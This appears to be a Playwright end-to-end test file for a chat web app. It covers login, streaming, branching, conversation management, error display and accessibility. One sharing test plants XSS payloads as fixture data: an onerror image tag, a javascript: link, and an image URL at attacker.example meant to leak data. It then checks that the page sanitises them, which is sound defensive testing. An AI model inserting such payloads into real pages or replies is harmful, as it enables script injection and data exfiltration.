"""The chat page in real Chromium against the real app and the fake upstream: the everyday flows."""

from __future__ import annotations

import re
import time
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Server, build_app, goto, shot
from tests.fake_upstream import behaviour

pytestmark = pytest.mark.browser

expect.set_options(timeout=20_000)

MARKDOWN_REPLY = """Here is **bold** text and a list:

1. first item
2. second item with `inline code`

```python
def greet(name: str) -> str:
    return f"Hello, {name}!"
```

| left | right |
|------|-------|
| 1    | 2     |

> A quote with a [link](https://example.com/docs).
"""


def send(page: Any, text: str) -> None:
    box = page.locator("#composer-input")
    box.fill(text)
    box.press("Enter")


def last_reply(page: Any) -> Any:
    return page.locator("article.msg-assistant").last


def wait_idle(page: Any) -> None:
    """The turn is over: Send is back and no reply is pending."""
    expect(page.locator("#send")).to_be_visible()
    expect(page.locator("article.pending")).to_have_count(0)


def test_login_send_and_streamed_markdown(server: Server, open_page: Any) -> None:
    user = server.new_user("alice")
    page, _ = open_page()
    page.goto(server.url + "/")
    expect(page).to_have_url(re.compile(r"/login$"))
    page.fill("#username", user)
    page.fill("#password", "wrong password, long enough")
    page.click("#login-form button[type=submit]")
    expect(page.locator("#login-error")).to_contain_text("Wrong user name or password")
    page.fill("#password", "correct horse battery staple")
    page.click("#login-form button[type=submit]")
    expect(page).to_have_url(server.url + "/")
    expect(page.locator("body.ready")).to_have_count(1)
    expect(page.locator("#empty-state")).to_be_visible()
    expect(page.locator("#model-input")).to_have_value("gpt-5.4-mini")
    shot(page, "01-empty")

    # Shift+Enter is a new line, not a send.
    box = page.locator("#composer-input")
    box.fill("line one")
    box.press("Shift+Enter")
    box.type("line two")
    expect(box).to_have_value("line one\nline two")
    expect(page.locator("article.msg-user")).to_have_count(0)

    server.upstream.reply = MARKDOWN_REPLY
    server.upstream.delta_delay = 0.04
    box.press("Enter")
    expect(page.locator("article.msg-user .msg-body")).to_have_text("line one\nline two")
    reply = last_reply(page)
    expect(page.locator("#stop")).to_be_visible()
    expect(reply.locator(".msg-body strong")).to_have_text("bold")
    expect(reply).to_have_class(re.compile("pending"))
    shot(page, "02-streaming")

    wait_idle(page)
    expect(reply.locator(".codeblock pre code.hljs")).to_contain_text("def greet")
    expect(reply.locator(".codeblock .codeblock-lang")).to_have_text("python")
    expect(reply.locator(".codeblock .hljs-keyword").first).to_be_visible()
    expect(reply.locator(".copy-code")).to_be_visible()
    expect(reply.locator("table td").first).to_have_text("1")
    link = reply.locator(".msg-body a")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")
    expect(reply.locator(".msg-usage")).to_contain_text("tokens")
    expect(page.locator("#chat-totals")).to_contain_text("tokens")
    expect(page.locator("#conv-list li")).to_have_count(1)
    expect(page.locator("#conv-list li .conv-name")).to_have_text("line one line two")
    shot(page, "03-code-block")

    # The reply on screen equals what the upstream sent, and a reload shows the same conversation.
    assert reply.locator(".msg-body pre code").inner_text().strip().startswith("def greet")
    page.reload()
    expect(last_reply(page).locator(".codeblock pre code")).to_contain_text('return f"Hello')
    expect(page.locator("article.msg-user")).to_have_count(1)


def test_stop_with_button_and_escape(server: Server, open_page: Any) -> None:
    user = server.new_user("stopper")
    page, _ = open_page(user)
    goto(page, server.url + "/")
    server.upstream.reply = "word " * 400
    server.upstream.chunk_size = 5
    server.upstream.delta_delay = 0.05

    send(page, "Write a long text")
    expect(last_reply(page).locator(".msg-body")).to_contain_text("word word word")
    page.locator("#stop").click()
    expect(last_reply(page).locator(".msg-status")).to_have_text("Stopped.")
    wait_idle(page)
    text = last_reply(page).locator(".msg-body").inner_text()
    assert 0 < len(text) < len("word " * 400)
    rec = server.upstream.responses_requests()[-1]
    assert rec.wait_done(10)
    assert not rec.completed

    # Esc stops too.
    send(page, "Again, please")
    expect(last_reply(page).locator(".msg-body")).to_contain_text("word word word")
    page.keyboard.press("Escape")
    expect(last_reply(page).locator(".msg-status")).to_have_text("Stopped.")
    wait_idle(page)


def test_regenerate_edit_branch_and_switch(server: Server, open_page: Any) -> None:
    user = server.new_user("brancher")
    page, _ = open_page(user)
    goto(page, server.url + "/")
    counter = iter(range(1, 100))
    server.upstream.reply = lambda body: f"Answer number {next(counter)}."

    send(page, "Tell me a number")
    expect(last_reply(page).locator(".msg-body")).to_have_text("Answer number 1.")
    wait_idle(page)

    last_reply(page).get_by_role("button", name="Regenerate", exact=True).click()
    expect(last_reply(page).locator(".msg-body")).to_have_text("Answer number 2.")
    wait_idle(page)
    nav = last_reply(page).locator(".sibling-nav")
    expect(nav.locator(".sib-count")).to_have_text("2/2")
    nav.get_by_role("button", name="Previous version").click()
    expect(last_reply(page).locator(".msg-body")).to_have_text("Answer number 1.")
    expect(last_reply(page).locator(".sib-count")).to_have_text("1/2")
    last_reply(page).get_by_role("button", name="Next version").click()
    expect(last_reply(page).locator(".msg-body")).to_have_text("Answer number 2.")

    # A follow-up, then edit the first message: a new branch from the root.
    send(page, "And another")
    expect(last_reply(page).locator(".msg-body")).to_have_text("Answer number 3.")
    wait_idle(page)
    expect(page.locator("article.msg")).to_have_count(4)
    first_user = page.locator("article.msg-user").first
    first_user.get_by_role("button", name="Edit").click()
    editor = first_user.locator("textarea.edit-input")
    expect(editor).to_have_value("Tell me a number")
    editor.fill("Tell me a different number")
    editor.press("Enter")
    expect(last_reply(page).locator(".msg-body")).to_have_text("Answer number 4.")
    wait_idle(page)
    expect(page.locator("article.msg")).to_have_count(2)
    first_user = page.locator("article.msg-user").first
    expect(first_user.locator(".msg-body")).to_have_text("Tell me a different number")
    expect(first_user.locator(".sib-count")).to_have_text("2/2")
    request = server.upstream.responses_requests()[-1].body
    assert "previous_response_id" not in request or request["previous_response_id"] is None
    shot(page, "04-branch-navigation")

    # Back to the first branch: its whole path (4 messages, newest leaf) comes back.
    first_user.get_by_role("button", name="Previous version").click()
    expect(page.locator("article.msg")).to_have_count(4)
    expect(page.locator("article.msg-user").first.locator(".msg-body")).to_have_text(
        "Tell me a number"
    )
    expect(last_reply(page).locator(".msg-body")).to_have_text("Answer number 3.")
    expect(page.locator("article.msg-user").first.locator(".sib-count")).to_have_text("1/2")

    # The server agrees on the branch on screen.
    cid = page.evaluate("decodeURIComponent(location.hash.slice(1))")
    data = page.request.get(f"{server.url}/chat?conversation_id={cid}").json()
    assert [m["text"] for m in data["messages"]][-1] == "Answer number 3."


def test_list_filter_rename_delete(server: Server, open_page: Any) -> None:
    user = server.new_user("lister")
    page, _ = open_page(user)
    for name in ("Alpha project notes", "Beta recipes", "Gamma travel plans"):
        res = page.request.post(f"{server.url}/chat", data={"message": "hi", "chat_name": name})
        assert res.status == 200
        time.sleep(0.02)  # distinct last_update values for a stable order
    goto(page, server.url + "/")
    names = page.locator("#conv-list .conv-name")
    expect(names).to_have_text(["Gamma travel plans", "Beta recipes", "Alpha project notes"])

    page.fill("#filter", "RECIP")
    expect(names).to_have_text(["Beta recipes"])
    page.fill("#filter", "nothing like this")
    expect(page.locator("#conv-empty")).to_be_visible()
    page.fill("#filter", "")
    expect(names).to_have_count(3)

    # Rename inline: Enter saves (PATCH), the list and the server agree.
    beta = page.locator("#conv-list li", has_text="Beta recipes")
    beta.get_by_role("button", name=re.compile("Rename")).click()
    field = page.locator(".conv-rename-input")
    expect(field).to_be_focused()
    field.fill("Beta: weeknight dinners")
    field.press("Enter")
    expect(page.locator("#conv-list .conv-name", has_text="weeknight dinners")).to_have_count(1)
    listed = page.request.get(f"{server.url}/get-all-conversations").json()["conversations"]
    assert "Beta: weeknight dinners" in [c["chat_name"] for c in listed]

    # Open one, then delete it: hidden at once with Undo in a toast (no confirmation); Undo keeps it.
    page.locator("#conv-list .conv-open", has_text="Gamma").click()
    expect(page.locator("#chat-title")).to_have_text("Gamma travel plans")
    gamma = page.locator("#conv-list li", has_text="Gamma")
    gamma.get_by_role("button", name=re.compile("Delete")).click()
    expect(names).to_have_count(2)
    expect(page.locator("#chat-title")).to_have_text("New chat")
    page.get_by_role("button", name="Undo deleting “Gamma travel plans”").click()
    expect(names).to_have_count(3)
    gamma.get_by_role("button", name=re.compile("Delete")).click()
    expect(names).to_have_count(2)
    # The DELETE is sent a few seconds later (the undo delay).
    deadline = time.monotonic() + 10
    while True:
        listed = page.request.get(f"{server.url}/get-all-conversations").json()["conversations"]
        if len(listed) == 2 or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert sorted(c["chat_name"] for c in listed) == [
        "Alpha project notes",
        "Beta: weeknight dinners",
    ]


def test_reload_during_answer_reattaches_and_completes(server: Server, open_page: Any) -> None:
    user = server.new_user("reloader")
    page, _ = open_page(user)
    goto(page, server.url + "/")
    words = [f"w{i:03d}" for i in range(120)]
    server.upstream.reply = " ".join(words)
    server.upstream.chunk_size = 5
    server.upstream.delta_delay = 0.04

    send(page, "Count slowly")
    expect(last_reply(page).locator(".msg-body")).to_contain_text("w005")
    page.reload()
    # The page knows the turn is running (last message in_progress) and re-attaches to its events.
    expect(page.locator("#stop")).to_be_visible()
    expect(last_reply(page).locator(".msg-body")).to_have_text(" ".join(words))
    wait_idle(page)
    expect(last_reply(page).locator(".msg-status")).to_be_hidden()
    expect(last_reply(page).locator(".msg-usage")).to_contain_text("tokens")
    assert len(server.upstream.responses_requests()) == 1


def test_upstream_error_shown_in_plain_words_with_retry(server: Server, open_page: Any) -> None:
    user = server.new_user("erring")
    page, _ = open_page(user)
    goto(page, server.url + "/")
    server.upstream.script(["500"])
    send(page, "Hello?")
    status = last_reply(page).locator(".msg-status")
    expect(status).to_contain_text("had an error on its side")  # a 500 is not "unreachable"
    retry = status.get_by_role("button", name="Retry")
    expect(retry).to_be_visible()
    wait_idle(page)
    shot(page, "05-error")

    retry.click()
    expect(last_reply(page).locator(".msg-body")).to_have_text("Hello! How can I help?")
    wait_idle(page)
    expect(last_reply(page).locator(".msg-status")).to_be_hidden()
    expect(last_reply(page).locator(".sib-count")).to_have_text("2/2")
    assert server.upstream.responses_requests()[-1].body["input"]

    # Not retryable: the key was refused. Plain words, no Retry button.
    server.upstream.script(["401"])
    send(page, "And now?")
    status = last_reply(page).locator(".msg-status")
    expect(status).to_contain_text("refused the server's key")
    expect(status.get_by_role("button", name="Retry")).to_have_count(0)
    wait_idle(page)


def test_mid_answer_reset_then_error_event(server: Server, open_page: Any) -> None:
    user = server.new_user("resetter")
    page, _ = open_page(user)
    goto(page, server.url + "/")
    server.upstream.reply = "Partial answer that will be cut off somewhere in the middle."
    server.upstream.script([behaviour("reset", after=3)])
    send(page, "Go")
    status = last_reply(page).locator(".msg-status")
    expect(status).to_contain_text("interrupted")
    expect(status.get_by_role("button", name="Retry")).to_be_visible()
    expect(last_reply(page).locator(".msg-body")).not_to_be_empty()
    wait_idle(page)


def test_dark_theme_and_phone_width(server: Server, open_page: Any) -> None:
    user = server.new_user("darkphone")
    page, _ = open_page(user, color_scheme="dark")
    server.upstream.reply = MARKDOWN_REPLY
    res = page.request.post(
        f"{server.url}/chat", data={"message": "Show me Markdown", "chat_name": "Dark mode"}
    )
    assert res.status == 200
    goto(page, server.url + "/")
    page.locator("#conv-list .conv-open").first.click()
    expect(last_reply(page).locator(".codeblock")).to_be_visible()
    bg = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert bg == "rgb(23, 24, 27)", bg
    shot(page, "06-dark")

    phone, _ = open_page(
        user, viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True
    )
    goto(phone, server.url + "/")
    sidebar = phone.locator("#sidebar")
    expect(sidebar).to_be_hidden()
    toggle = phone.locator("#toggle-sidebar")
    expect(toggle).to_have_attribute("aria-expanded", "false")
    toggle.click()
    expect(sidebar).to_be_visible()
    expect(toggle).to_have_attribute("aria-expanded", "true")
    shot(phone, "07-phone-sidebar")
    phone.locator("#conv-list .conv-open").first.click()
    expect(sidebar).to_be_hidden()
    expect(last_reply(phone).locator(".codeblock")).to_be_visible()
    width = phone.evaluate("document.documentElement.scrollWidth")
    assert width <= 390, f"page scrolls sideways: {width}px"
    shot(phone, "08-phone")


def test_keyboard_focus_is_visible_and_labelled(server: Server, open_page: Any) -> None:
    user = server.new_user("keys")
    page, _ = open_page(user)
    goto(page, server.url + "/")
    expect(page.locator("#composer-input")).to_be_focused()
    for sel in ("#composer-input", "#filter", "#model-input"):
        label = page.evaluate(
            "(s) => { const e = document.querySelector(s);"
            " return e.labels && e.labels.length ? e.labels[0].textContent.trim() : ''; }",
            sel,
        )
        assert label, f"{sel} has no label"
    page.locator("#new-chat").focus()
    page.keyboard.press("Tab")
    page.keyboard.press("Shift+Tab")
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline != "none"
    # The conversation is not a live region: one polite status line announces replies (issue 14).
    expect(page.locator("#messages")).not_to_have_attribute("role", "log")
    expect(page.locator("#sr-status")).to_have_attribute("role", "status")


def test_unavailable_and_migrated_history(server: Server, open_page: Any) -> None:
    user = server.new_user("legacy")
    store = server.app.extensions["store"]
    old = store.create(
        user,
        chat_name="Imported thread",
        model="gpt-5.4-mini",
        provider="openai",
        instructions="",
        legacy={"thread_id": "thread_abc123", "history": "unavailable"},
        conversation_id="thread_abc123",
    )
    broken = store.create(
        user, chat_name="Broken one", model="gpt-5.4-mini", provider="openai", instructions=""
    )
    path = server.data_dir / user / f"{broken.id}.json"
    path.write_text("{ this is not json")

    page, _ = open_page(user)
    goto(page, server.url + "/")
    expect(page.locator("#conv-list li")).to_have_count(2)
    page.locator("#conv-list .conv-open", has_text="Imported thread").click()
    expect(page.locator(".legacy-notice")).to_contain_text("earlier history is not available")
    expect(page.locator("#composer-input")).to_be_enabled()

    page.goto(f"{server.url}/#{broken.id}")
    page.reload()
    expect(page.locator("body.ready")).to_have_count(1)
    expect(page.locator("#messages .notice-warn")).to_contain_text("history is not available")
    expect(page.locator("#composer-input")).to_be_disabled()
    expect(page.locator("#conv-list li.unavailable .conv-meta")).to_have_text("history unavailable")
    assert old.id == "thread_abc123"


def test_provider_missing_notice(tmp_path: Any, open_page: Any, serve_app: Any) -> None:
    app = build_app(tmp_path, None)
    app.extensions["accounts"].create_user("nokey", "correct horse battery staple")
    url = serve_app(app)
    page, _ = open_page("nokey", base_url=url)
    goto(page, url + "/")
    notice = page.locator("#provider-missing")
    expect(notice).to_contain_text("OPENAI_API_KEY")
    expect(notice).to_contain_text("OPENAI_BASE_URL")
    # With no provider the composer says so and is disabled (nothing to send to).
    expect(page.locator("#composer-input")).to_be_disabled()
    expect(page.locator("#send")).to_be_disabled()


def test_first_run_signup_page(tmp_path: Any, open_page: Any, serve_app: Any) -> None:
    url = serve_app(build_app(tmp_path, None))
    page, _ = open_page(base_url=url)
    page.goto(url + "/login")
    expect(page.locator("h1")).to_have_text("Create the first account")
    expect(page.locator("#login-form")).to_have_attribute("action", "/signup")
    shot(page, "11-first-run")
    page.fill("#username", "firstuser")
    page.fill("#password", "a long enough password")
    page.click("#login-form button[type=submit]")
    expect(page).to_have_url(url + "/")
    expect(page.locator(".sidebar-foot .user")).to_have_text("firstuser")


def test_share_page_renders_sanitized(server: Server, open_page: Any) -> None:
    user = server.new_user("sharer")
    token = server.app.extensions["shares"].create(
        user,
        "c_shared",
        {
            "chat_name": "Shared <b>chat</b>",
            "messages": [
                {
                    "role": "user",
                    "text": "<img src=x onerror=window.__pwned=1> hi",
                    "timestamp": 1767378354.1,
                },
                {
                    "role": "assistant",
                    "text": "**Sure.** [x](javascript:window.__pwned=1) ![](https://attacker.example/leak?d=1)",
                    "timestamp": 1767378360.2,
                },
            ],
        },
    )
    page, _ = open_page()
    page.goto(f"{server.url}/share/{token}")
    expect(page.locator("h1")).to_have_text("Shared <b>chat</b>")
    expect(page.locator(".msg-user .msg-body")).to_have_text(
        "<img src=x onerror=window.__pwned=1> hi"
    )
    expect(page.locator(".msg-assistant strong")).to_have_text("Sure.")
    expect(page.locator(".msg-assistant .blocked-image-note")).to_be_visible()
    shot(page, "12-share")
    assert page.locator("[onerror], a[href^='javascript']").count() == 0


def test_json_requests_carry_content_type_and_csrf_header(server: Server, open_page: Any) -> None:
    user = server.new_user("headers")
    page, _ = open_page(user)
    seen: list[dict[str, str]] = []
    page.on(
        "request",
        lambda r: (
            seen.append({"method": r.method, "url": r.url, **r.headers})
            if r.method in ("POST", "PATCH", "PUT", "DELETE")
            else None
        ),
    )
    goto(page, server.url + "/")
    send(page, "hello")
    wait_idle(page)
    posts = [r for r in seen if r["url"].endswith("/chat")]
    assert posts
    token = page.locator("meta[name=csrf-token]").get_attribute("content")
    assert token
    for r in posts:
        assert r["content-type"] == "application/json"
        assert r["x-csrf-token"] == token


def test_model_picker_thinking_section_and_incomplete(server: Server, open_page: Any) -> None:
    user = server.new_user("thinker")
    page, _ = open_page(user)
    goto(page, server.url + "/")
    page.locator("#model-input").press("ArrowDown")
    expect(page.locator("#model-listbox [role=option]").first).to_have_attribute(
        "data-model", "gpt-5.4-mini"
    )
    page.locator("#model-input").press("Escape")

    # "fake-reasoning" makes the fake upstream stream a reasoning summary before the text.
    page.locator("#model-input").fill("fake-reasoning")
    send(page, "Think first")
    wait_idle(page)
    assert server.upstream.responses_requests()[-1].body["model"] == "fake-reasoning"
    thinking = last_reply(page).locator("details.thinking")
    expect(thinking).to_be_visible()
    # The label says how long it thought and how many reasoning tokens (reasoning.js).
    expect(thinking.locator("summary")).to_have_text(
        re.compile(r"^Thought for .+ · \d+ reasoning tokens?$")
    )
    expect(thinking).not_to_have_attribute("open", "")
    thinking.locator("summary").click()
    expect(thinking.locator(".thinking-body strong").first).to_have_text("Thinking it over")
    expect(last_reply(page).locator(".msg-model")).to_have_text("fake-reasoning")
    # An unknown model has no price: said so, never $0.
    expect(last_reply(page).locator(".msg-usage")).to_contain_text("price unknown")
    shot(page, "10-thinking")

    # The model stays with the conversation after a reload.
    page.reload()
    expect(page.locator("#model-input")).to_have_value("fake-reasoning")

    page.locator("#model-input").fill("fake-incomplete")
    send(page, "Write a lot")
    wait_idle(page)
    expect(last_reply(page).locator(".msg-status")).to_contain_text("The answer stopped early")


def test_dropped_stream_reattaches_after_last_event_id(server: Server, open_page: Any) -> None:
    user = server.new_user("dropped")
    page, _ = open_page(user)
    goto(page, server.url + "/")
    words = " ".join(f"piece{i}" for i in range(40))
    server.upstream.reply = words
    server.upstream.chunk_size = 8
    server.upstream.delta_delay = 0.04  # paced, so the answer spans several coalesced frames

    def cut_short(route: Any) -> None:
        # The whole answer is fetched, but the browser only gets the conversation frame and the
        # first delta: a dropped connection.
        response = route.fetch()
        frames = response.body().split(b"\n\n")
        assert len(frames) > 4, frames
        route.fulfill(response=response, body=b"\n\n".join(frames[:2]) + b"\n\n")

    page.route("**/chat", lambda r: cut_short(r) if r.request.method == "POST" else r.fallback())
    reattached: list[str | None] = []
    page.on(
        "request",
        lambda r: reattached.append(r.headers.get("last-event-id")) if "/events" in r.url else None,
    )
    send(page, "Stream, then drop")
    expect(last_reply(page).locator(".msg-body")).to_have_text(words)
    wait_idle(page)
    expect(last_reply(page).locator(".msg-status")).to_be_hidden()
    assert reattached, "the page did not re-attach"
    assert reattached[0] and re.fullmatch(r"m_[\w-]+:\d+", reattached[0]), reattached
